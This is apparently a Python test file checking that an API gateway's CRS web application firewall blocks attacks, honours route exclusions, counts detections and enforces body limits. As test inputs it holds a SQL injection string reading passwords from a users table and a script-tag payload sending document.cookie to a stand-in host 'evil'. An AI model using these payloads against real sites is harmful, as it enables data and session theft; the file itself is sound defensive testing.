"""The CRS detector inside the gateway's validation step, on the real CRS 4.28, end to end."""

from __future__ import annotations

import aiohttp
import pytest
from aiohttp.test_utils import TestServer

from gateway.errors import PolicyError
from gateway.policy.loader import parse_policy
from gateway.runtime import compile_policy
from tests.conftest import CRS_DIR, GatewayFactory
from tests.upstream_app import HITS

RULES = CRS_DIR / "rules"
# These tests assert verdicts, so a pause of the shared test process (a full garbage collection
# over every test's objects took 94 ms on CI) must not turn into the budget's fail mode, which
# tests/crs/test_actions.py proves on a stepping clock.
BUDGET = "time_budget: 30s"

POLICY = f"""
routes:
  - name: api
    match: {{path_prefix: /echo}}
    validation:
      attacks:
        mode: block
        crs: {{rules_dir: "{RULES}", paranoia_level: 1, anomaly_threshold: 5, {BUDGET}}}
  - name: watch
    match: {{path_prefix: /status}}
    validation:
      attacks:
        mode: detect
        crs: {{rules_dir: "{RULES}", {BUDGET}}}
"""

# Real traffic names its host; CRS rule 920350 scores a bare IP address in Host as suspicious.
HOST = {"Host": "shop.example"}
SQLI = "/echo/items?id=1%27%20UNION%20SELECT%20password%20FROM%20users--"

# The docs route comes first so that it takes /echo/docs; both share one attacks block whose
# exclusion switches the SQL injection rules off on docs only.
ATTACKS = f"""
    validation:
      attacks:
        crs: {{rules_dir: "{RULES}", {BUDGET}}}
        exclusions:
          - {{rule_ids: ["942000-942999"], routes: [docs]}}"""
DOCS_FIRST = f"""
routes:
  - name: docs
    match: {{path_prefix: /echo/docs}}{ATTACKS}
  - name: api
    match: {{path_prefix: /echo}}{ATTACKS}
"""


def _hits(upstream: TestServer, name: str = "echo") -> int:
    return upstream.app[HITS].get(name, 0)


async def test_sql_injection_is_refused_with_rule_ids_and_never_reaches_upstream(
    make_gateway: GatewayFactory, client: aiohttp.ClientSession, upstream: TestServer
) -> None:
    """A UNION SELECT in the query gets 403 problem+json naming CRS rule ids, not the payload."""
    gw = await make_gateway(POLICY)
    async with client.get(gw.proxy + SQLI, headers={"X-Request-ID": "atk-1", **HOST}) as response:
        assert response.status == 403
        assert response.content_type == "application/problem+json"
        body = await response.json(content_type=None)
    assert body["type"] == "urn:gateway:problem:attack-detected"
    assert body["request_id"] == "atk-1"
    assert body["anomaly_score"] >= 5
    assert "sqli" in body["families"]
    assert any(942000 <= rule <= 942999 for rule in body["rule_ids"])
    assert "UNION" not in str(body) and "password" not in str(body)
    assert _hits(upstream) == 0


async def test_xss_in_a_json_field_is_refused(
    make_gateway: GatewayFactory, client: aiohttp.ClientSession, upstream: TestServer
) -> None:
    """A script tag inside a JSON body field is seen by the CRS (as json.comment) and refused."""
    gw = await make_gateway(POLICY)
    payload = {"comment": "<script>document.location='http://evil/'+document.cookie</script>"}
    async with client.post(gw.proxy + "/echo/comments", json=payload, headers=HOST) as response:
        assert response.status == 403
        body = await response.json(content_type=None)
    assert "xss" in body["families"]
    assert _hits(upstream) == 0


@pytest.mark.parametrize(
    ("path", "body"),
    [
        ("/echo/orders?page=2&sort=created_at", None),
        ("/echo/orders", {"item": "book", "quantity": 2, "note": "Please leave it at the door"}),
        ("/echo/reviews", {"text": "It's the best coffee I've had, and I'd buy it again."}),
    ],
    ids=["query", "order-json", "prose-with-apostrophes"],
)
async def test_benign_requests_pass_intact(
    make_gateway: GatewayFactory,
    client: aiohttp.ClientSession,
    upstream: TestServer,
    path: str,
    body: dict[str, object] | None,
) -> None:
    """Ordinary API calls pass the CRS at paranoia level 1 and reach the upstream unchanged."""
    gw = await make_gateway(POLICY)
    method = "POST" if body is not None else "GET"
    async with client.request(method, gw.proxy + path, json=body, headers=HOST) as response:
        assert response.status == 200
        echoed = await response.json()
    assert echoed["raw_path"] == path
    assert _hits(upstream) == 1


async def test_a_route_exclusion_switches_a_rule_family_off(
    make_gateway: GatewayFactory, client: aiohttp.ClientSession
) -> None:
    """Rules excluded for a route do not fire there; the same request elsewhere is refused."""
    gw = await make_gateway(DOCS_FIRST)
    sqli_in_docs = SQLI.replace("/echo/items", "/echo/docs/items")
    async with client.get(gw.proxy + sqli_in_docs, headers=HOST) as response:
        assert response.status == 200
    async with client.get(gw.proxy + SQLI, headers=HOST) as response:
        assert response.status == 403


async def test_detect_mode_forwards_but_counts_and_captures(
    make_gateway: GatewayFactory, client: aiohttp.ClientSession, upstream: TestServer
) -> None:
    """In detect mode an attack is forwarded, and counted as detected with an error event."""
    gw = await make_gateway(POLICY)
    async with client.get(
        gw.proxy + "/status/200?q=%3Cscript%3Ealert(1)%3C/script%3E", headers=HOST
    ) as resp:
        assert resp.status == 200
    async with client.get(gw.url("metrics", "/metrics")) as response:
        text = await response.text()
    assert 'gateway_attack_matches_total{family="xss",outcome="detected",route="watch"} 1.0' in text
    assert 'gateway_error_events_total{reason="attack_detected"} 1.0' in text


def test_a_rules_dir_that_does_not_load_is_a_policy_error(tmp_path: object) -> None:
    """A rules_dir that does not exist is refused at load, naming the policy key."""
    loaded = parse_policy(
        "routes:\n  - name: a\n    validation:\n      attacks:\n"
        "        crs: {rules_dir: /nonexistent/crs}\n",
        "p.yaml",
    )
    with pytest.raises(PolicyError) as caught:
        compile_policy(loaded, generation=1, default_upstream_url="http://127.0.0.1:9")
    assert "routes[0].validation.attacks.crs.rules_dir" in str(caught.value)


def test_routes_naming_the_same_ruleset_share_one_compiled_engine() -> None:
    """Two routes with the same attacks block compile the CRS once; a reload reuses it."""
    block = f'validation: {{attacks: {{crs: {{rules_dir: "{RULES}"}}}}}}'
    text = f"routes:\n  - name: a\n    {block}\n  - name: b\n    {block}\n"
    first = compile_policy(parse_policy(text), generation=1, default_upstream_url="http://x:1")
    a, b = first.routes
    assert a.attacks is not None and b.attacks is not None
    assert a.attacks.engine is b.attacks.engine
    again = compile_policy(
        parse_policy(text + "  - name: c\n"),
        generation=2,
        default_upstream_url="http://x:1",
        previous=first,
    )
    assert again.routes[0].attacks is not None
    assert again.routes[0].attacks.engine is a.attacks.engine


async def test_explain_names_the_crs_rules_without_touching_the_upstream(
    make_gateway: GatewayFactory, client: aiohttp.ClientSession, upstream: TestServer
) -> None:
    """The admin explain endpoint shows the CRS verdict and the 403 it would give, and sends
    nothing to the upstream."""
    gw = await make_gateway(POLICY)
    described = {"method": "GET", "path": SQLI, "headers": HOST}
    async with client.post(gw.url("admin", "/admin/explain"), json=described) as response:
        assert response.status == 200
        answer = await response.json()
    attacks = answer["attacks"]
    assert attacks["available"] is True and attacks["blocked"] is True
    assert "sqli" in attacks["families"]
    assert (answer["outcome"]["status"], answer["outcome"]["reason"]) == (403, "attack_detected")
    assert _hits(upstream) == 0


async def test_the_scan_reads_no_more_than_the_routes_max_body_even_with_validation_off(
    make_gateway: GatewayFactory, client: aiohttp.ClientSession, upstream: TestServer
) -> None:
    """With validation checks off but attacks on, a body over the route's max_body is a 413."""
    gw = await make_gateway(
        f"""
routes:
  - name: api
    match: {{path_prefix: /echo}}
    validation:
      mode: "off"
      max_body: 1KiB
      attacks: {{crs: {{rules_dir: "{RULES}", {BUDGET}}}}}
"""
    )
    body = {"note": "x" * 2048}
    async with client.post(gw.proxy + "/echo/notes", json=body, headers=HOST) as response:
        assert response.status == 413
    async with client.post(gw.proxy + "/echo/notes", json={"note": "short"}, headers=HOST) as ok:
        assert ok.status == 200
    assert _hits(upstream) == 1
